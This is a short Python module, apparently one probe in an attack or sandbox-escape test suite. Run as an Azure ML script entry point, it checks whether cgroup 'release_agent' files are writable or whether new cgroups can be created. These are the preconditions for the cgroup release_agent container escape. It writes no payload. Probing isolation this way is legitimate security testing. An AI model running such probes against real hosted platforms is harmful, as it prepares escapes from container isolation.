"""Looks for a group of processes whose end would start a program of the script's choice, outside."""

import glob
import os

from attack import BAIT, attack, every, may_write


def make_group(folder):
    path = os.path.join(folder, BAIT["left_name"])
    os.mkdir(path)
    os.rmdir(path)
    return f"made a group in {folder}"


@attack
def azureml_main(dataframe1=None, dataframe2=None):
    folders = [folder for folder in glob.glob("/sys/fs/cgroup/*") if os.path.isdir(folder)]
    try:
        return every(may_write, [os.path.join(folder, "release_agent") for folder in folders])
    except (OSError, LookupError):
        return every(make_group, ["/sys/fs/cgroup", *folders])
